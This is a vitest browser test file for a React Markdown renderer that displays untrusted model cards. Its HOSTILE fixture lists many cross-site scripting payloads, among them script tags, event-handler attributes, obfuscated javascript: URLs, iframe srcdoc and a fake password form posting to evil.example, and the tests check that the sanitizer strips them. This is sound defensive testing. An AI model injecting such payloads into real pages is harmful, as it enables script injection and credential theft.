// Renders untrusted markdown in real Chromium and inspects the DOM that React produced.
// (A .ts file with createElement: the browser project only picks up *.browser.test.ts.)
import { act, createElement } from 'react';
import { createRoot } from 'react-dom/client';
import { afterEach, describe, expect, it, vi } from 'vitest';
import instructCard from '../../test/fixtures/cards/instruct-model.md?raw';
import { parseModelCard } from '../hub/card.ts';
import { Markdown, type MarkdownProps } from './Markdown.tsx';

(globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;

const cleanups: (() => void)[] = [];
afterEach(() => cleanups.splice(0).forEach((cleanup) => cleanup()));

async function render(props: MarkdownProps): Promise<HTMLElement> {
  const container = document.createElement('div');
  document.body.append(container);
  const root = createRoot(container);
  await act(async () => root.render(createElement(Markdown, props)));
  cleanups.push(() => {
    act(() => root.unmount());
    container.remove();
  });
  return container;
}

const COMMIT = '0123456789abcdef0123456789abcdef01234567';
// Without the trailing slash on purpose: the component must not drop the commit segment.
const BASE = `https://huggingface.co/pocket-lab/Pebble-0.5B-Instruct/resolve/${COMMIT}`;

const HOSTILE = `
# Totally normal card

<script>window.pwned = 'script'</script>
<img src=x onerror="window.pwned = 'img'">
<p><img src="x" onload="window.pwned = 'img-load'" style="position:fixed;inset:0"></p>

[plain](javascript:alert(1)) [mixed case](JaVaScRiPt:alert(1)) [spaced](  javascript:alert(1))

<a href="jav&#x09;ascript:alert(1)">tab entity</a>
<a href="data:text/html,<script>alert(1)</script>">data link</a>
<a href="vbscript:msgbox(1)">vbscript</a>

![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

<iframe src="https://evil.example/" srcdoc="<script>parent.pwned = 'iframe'</script>"></iframe>
<a href="https://evil.example/" onclick="window.pwned = 'click'" onmouseover="window.pwned = 'hover'">evil</a>
<style>body { display: none } .marker-from-style {}</style>
<svg onload="window.pwned = 'svg'"><script>window.pwned = 'svg-script'</script><a href="javascript:alert(1)"><circle r="40"/></a></svg>
<math><mi href="javascript:alert(1)">x</mi></math>
<form action="https://evil.example/"><input name="password" type="password"><button formaction="https://evil.example/">Log in</button></form>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<div style="position:fixed;inset:0;background:red" class="skip-link" id="root" tabindex="1" accesskey="s">overlay</div>
<details open ontoggle="window.pwned = 'toggle'"><summary>more</summary>inside</details>
<input type="checkbox" checked onchange="window.pwned = 'input'">
`;

describe('Markdown with a hostile card', () => {
  it('renders no active content', async () => {
    const view = await render({ source: HOSTILE, baseUrl: BASE });
    const elements = [...view.querySelectorAll('*')];

    const forbidden = 'script, iframe, style, svg, math, form, object, embed, base, meta, link, button, textarea, select';
    expect(view.querySelectorAll(forbidden)).toHaveLength(0);
    for (const element of elements) {
      for (const { name, value } of element.attributes) {
        expect(name, `${element.tagName} ${name}`).not.toMatch(/^on/i);
        expect(['style', 'tabindex', 'accesskey', 'srcdoc', 'formaction', 'action'], `${element.tagName} ${name}`).not.toContain(name);
        // What the browser would follow: control characters are ignored inside a scheme.
        expect(value.replace(/[\u0000-\u0020]/g, ''), `${element.tagName} ${name}`).not.toMatch(/^(javascript|vbscript|data):/i);
      }
    }
    // Card ids and classes cannot reach the app's own: ids are prefixed, classes are dropped.
    expect(elements.filter((e) => e.id !== '').every((e) => e.id.startsWith('user-content-'))).toBe(true);
    expect(view.querySelector('.skip-link, #root')).toBeNull();
    expect(view.textContent).not.toContain('display: none');
    // The only input left is the disabled checkbox of a task list; this one is not in a list.
    expect([...view.querySelectorAll('input')].every((input) => input.disabled && input.type === 'checkbox')).toBe(true);

    const evil = [...view.querySelectorAll('a')].find((a) => a.textContent === 'evil')!;
    expect(evil.getAttribute('href')).toBe('https://evil.example/');
    expect(evil.target).toBe('_blank');
    expect(evil.rel).toBe('noopener noreferrer');
  });

  it('keeps the text of links whose URL it removed', async () => {
    const view = await render({ source: '[plain](javascript:alert(1)) and ![alt text](data:image/png;base64,AAAA)', baseUrl: BASE });
    const link = view.querySelector('a')!;
    expect(link.textContent).toBe('plain');
    expect(link.hasAttribute('href')).toBe(false);
    expect(view.querySelector('img')!.hasAttribute('src')).toBe(false);
    expect(view.querySelector('img')!.alt).toBe('alt text');
  });
});

describe('Markdown with a normal card', () => {
  const { body } = parseModelCard(instructCard);

  it('keeps tables, strikethrough, task lists, raw HTML layout and bare URLs', async () => {
    const view = await render({ source: body, baseUrl: BASE });
    const tables = view.querySelectorAll('table');
    expect(tables).toHaveLength(2);
    expect([...tables[1].querySelectorAll('th')].map((th) => th.textContent)).toEqual(['Benchmark', 'Pebble-0.5B-Instruct', 'Baseline']);
    // react-markdown turns the column's `align` into an inline text-align.
    expect([...tables[1].querySelectorAll('tr:first-child td')].map((td) => (td as HTMLElement).style.textAlign)).toEqual(['left', 'right', 'right']);
    expect(tables[1].querySelector('del')!.textContent).toBe('MMLU (old harness)');

    const tasks = view.querySelectorAll('li.task-list-item');
    expect(tasks).toHaveLength(3);
    const boxes = [...tasks].map((li) => li.querySelector('input')!);
    expect(boxes.map((box) => [box.type, box.disabled, box.checked])).toEqual([
      ['checkbox', true, true],
      ['checkbox', true, true],
      ['checkbox', true, false],
    ]);

    expect(view.querySelector('p[align="center"] > img')).not.toBeNull();
    const bare = [...view.querySelectorAll('a')].find((a) => a.textContent === 'https://huggingface.co/pocket-lab')!;
    expect(bare.href).toBe('https://huggingface.co/pocket-lab');
  });

  it('highlights fenced code in registered languages only', async () => {
    const view = await render({ source: body, baseUrl: BASE });
    const codes = [...view.querySelectorAll('pre > code')];
    expect(codes.map((code) => code.className)).toEqual(['language-python hljs', 'language-bash hljs', '']);
    const keywords = [...codes[0].querySelectorAll('.hljs-keyword')].map((span) => span.textContent);
    expect(keywords).toEqual(expect.arrayContaining(['from', 'import']));
    expect(codes[0].querySelector('.hljs-string')!.textContent).toBe('"pocket-lab/Pebble-0.5B-Instruct"');
    // Highlighting only wraps text in spans: the code reads exactly as written.
    expect(codes[0].textContent).toContain('model_id = "pocket-lab/Pebble-0.5B-Instruct"\ntokenizer = ');
    expect(codes[2].children).toHaveLength(0);
  });

  it('highlights the usual fence names (aliases) and leaves unknown languages plain', async () => {
    const fences = ['js', 'ts', 'py', 'sh', 'shell', 'console', 'yml', 'md', 'c', 'c++', 'rs', 'json', 'haskell'];
    const source = fences.map((name) => `\`\`\`${name}\nx = 1 # "a"\n\`\`\``).join('\n\n');
    const view = await render({ source });
    const highlighted = [...view.querySelectorAll('pre > code')].map((code) => code.classList.contains('hljs'));
    expect(highlighted).toEqual([...fences.slice(0, -1).map(() => true), false]);
  });

  it('resolves relative images and links against the repository', async () => {
    const view = await render({ source: body, baseUrl: BASE });
    const banner = view.querySelector<HTMLImageElement>('img[alt="Pebble banner"]')!;
    expect(banner.getAttribute('src')).toBe(`${BASE}/assets/pebble-banner.png`);
    expect(banner.getAttribute('width')).toBe('480');
    expect(banner.referrerPolicy).toBe('no-referrer');

    const report = [...view.querySelectorAll('a')].find((a) => a.textContent === 'technical report')!;
    expect(report.getAttribute('href')).toBe(`${BASE}/docs/report.pdf`);
    for (const link of view.querySelectorAll<HTMLAnchorElement>('a[href^="http"]')) {
      expect([link.target, link.rel]).toEqual(['_blank', 'noopener noreferrer']);
    }
  });

  it('resolves root-relative and picture sources the way the Hub page would', async () => {
    const source = [
      '![root](/datasets/x/resolve/main/a.png)',
      '<picture><source media="(prefers-color-scheme: dark)" srcset="logo-dark.png 2x, data:image/png;base64,AAAA 1x"><img src="logo.png" alt="logo"></picture>',
    ].join('\n\n');
    const view = await render({ source, baseUrl: BASE });
    expect(view.querySelector('img[alt="root"]')!.getAttribute('src')).toBe('https://huggingface.co/datasets/x/resolve/main/a.png');
    expect(view.querySelector('source')!.getAttribute('srcset')).toBe(`${BASE}/logo-dark.png 2x`);
    expect(view.querySelector('img[alt="logo"]')!.getAttribute('src')).toBe(`${BASE}/logo.png`);
  });

  it('drops relative URLs when there is no repository to resolve them against', async () => {
    const view = await render({ source: '![x](images/x.png) [doc](docs/a.md) [site](https://example.com/)' });
    expect(view.querySelector('img')!.hasAttribute('src')).toBe(false);
    const [doc, site] = view.querySelectorAll('a');
    expect(doc.hasAttribute('href')).toBe(false);
    expect(site.getAttribute('href')).toBe('https://example.com/');
  });

  it('gives headings prefixed ids and points in-page links at them', async () => {
    const view = await render({ source: body, baseUrl: BASE });
    const heading = [...view.querySelectorAll('h2')].find((h) => h.textContent === 'Evaluation')!;
    expect(heading.id).toBe('user-content-evaluation');
    const link = [...view.querySelectorAll('a')].find((a) => a.textContent === 'evaluation')!;
    expect(link.getAttribute('href')).toBe('#user-content-evaluation');
    expect(link.hasAttribute('target')).toBe(false);
    expect(document.getElementById(link.hash.slice(1))).toBe(heading);
  });

  it('links footnotes both ways', async () => {
    const view = await render({ source: 'A claim.[^src]\n\n[^src]: The source.' });
    const ref = view.querySelector<HTMLAnchorElement>('a[data-footnote-ref]')!;
    const note = document.getElementById(ref.hash.slice(1))!;
    expect(note.textContent).toContain('The source.');
    const back = note.querySelector<HTMLAnchorElement>('a[data-footnote-backref]')!;
    expect(document.getElementById(back.hash.slice(1))).toBe(ref);
  });

  it('scrolls to a heading named by the page hash without the prefix', async () => {
    const view = await render({ source: body, baseUrl: BASE });
    const scrolled: Element[] = [];
    vi.spyOn(Element.prototype, 'scrollIntoView').mockImplementation(function (this: Element) {
      scrolled.push(this);
    });
    cleanups.push(() => {
      vi.restoreAllMocks();
      history.replaceState(null, '', location.pathname + location.search);
    });
    const changed = new Promise((resolve) => window.addEventListener('hashchange', resolve, { once: true }));
    location.hash = 'quickstart';
    await changed;
    expect(scrolled).toEqual([view.querySelector('#user-content-quickstart')]);
  });
});

describe('Markdown code blocks', () => {
  async function clickCopy(result: Promise<void>) {
    const writeText = vi.spyOn(navigator.clipboard, 'writeText').mockReturnValue(result);
    cleanups.push(() => vi.restoreAllMocks());
    const view = await render({ source: '```python\nprint("hi")\n```' });
    const button = view.querySelector('button')!;
    expect(button.getAttribute('aria-label')).toBe('Copy code');
    expect(button.type).toBe('button');
    const status = view.querySelector('[role="status"]')!;
    expect(status.textContent).toBe('');
    await act(async () => button.click());
    return { writeText, status };
  }

  it('copies the code and announces it', async () => {
    const { writeText, status } = await clickCopy(Promise.resolve());
    expect(writeText).toHaveBeenCalledWith('print("hi")\n');
    expect(status.textContent).toBe('Copied');
  });

  it('announces a copy the browser refused', async () => {
    const { status } = await clickCopy(Promise.reject(new DOMException('denied', 'NotAllowedError')));
    expect(status.textContent).toBe('Copy failed');
  });
});
